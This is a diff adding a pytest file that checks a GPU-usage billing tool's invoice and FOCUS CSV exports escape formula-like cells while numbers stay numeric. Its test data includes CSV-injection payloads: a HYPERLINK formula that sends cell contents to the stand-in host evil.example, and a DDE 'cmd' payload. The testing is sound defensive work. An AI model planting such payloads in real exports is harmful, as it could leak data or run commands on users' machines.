@@ -1,0 +1,67 @@
+"""Formula-like text in the invoice and FOCUS CSVs is written as text (a leading apostrophe);
+numbers, negative ones included, stay numbers."""
+import csv
+import io
+import sys
+from decimal import Decimal
+
+import pytest
+
+from cb_rows import add_gpu, add_slice, add_tenants
+from ingest.csv_cells import neutralise_csv_cell
+from ingest.store import connect
+from slicemeter.cli import main
+
+HOSTILE_NS = '=HYPERLINK("http://evil.example/?x="&A1,"invoice")'
+
+
+@pytest.mark.parametrize("cell", [
+    "=1+1", HOSTILE_NS, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "+", "=",
+    "-1e", "--5",
+])
+def test_formula_like_text_gets_a_leading_apostrophe(cell):
+    assert neutralise_csv_cell(cell) == "'" + cell
+
+
+@pytest.mark.parametrize("cell", [
+    "-12.50", "-0.0001", "+3", "-7", "-1e-05", "-.5", "12.5", "", "acme", "ml/train-0/main",
+    '{"slicemeter/node":"=x"}', "a=b", "GPU-1234",
+])
+def test_numbers_and_ordinary_text_are_unchanged(cell):
+    assert neutralise_csv_cell(cell) == cell
+
+
+def test_exported_csvs_carry_no_formula_and_keep_numbers(tmp_path, monkeypatch):
+    monkeypatch.setattr(sys, "argv", sys.argv[:])   # main() sets sys.argv; later tests read it
+    db = tmp_path / "m.duckdb"
+    con = connect(db)
+    add_tenants(con)
+    add_gpu(con, model="@NVIDIA(1)")
+    add_slice(con, "=cmd()", 0.5, 0.1, namespace=HOSTILE_NS)
+    con.close()
+    assert main(["export", "--db", str(db), "--month", "2026-11", "--out", str(tmp_path / "o"),
+                 "--prices", str(_prices(tmp_path))]) == 0
+    for name in ("invoice-2026-11.csv", "focus-2026-11.csv"):
+        rows = list(csv.reader(io.StringIO((tmp_path / "o" / name).read_text())))
+        cells = [c for r in rows[1:] for c in r]
+        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))], name
+        assert not [c for c in cells if c.startswith("-") and not _is_number(c)], name
+        assert any(c.startswith("'=HYPERLINK") for c in cells), name
+    inv = list(csv.DictReader(io.StringIO((tmp_path / "o" / "invoice-2026-11.csv").read_text())))
+    assert sum(Decimal(r["cost"]) for r in inv) == Decimal("1.00")   # the GPU-hour, all numeric
+    assert {r["namespace"] for r in inv} == {"'" + HOSTILE_NS, "(idle)"}
+    assert {r["gpu_model"] for r in inv} == {"'@NVIDIA(1)"}
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        Decimal(cell)
+        return True
+    except ArithmeticError:
+        return False
+
+
+def _prices(tmp_path):
+    p = tmp_path / "prices.yaml"
+    p.write_text('currency: USD\ngpu_hour:\n  "@NVIDIA(1)": "1.00"\n')
+    return p
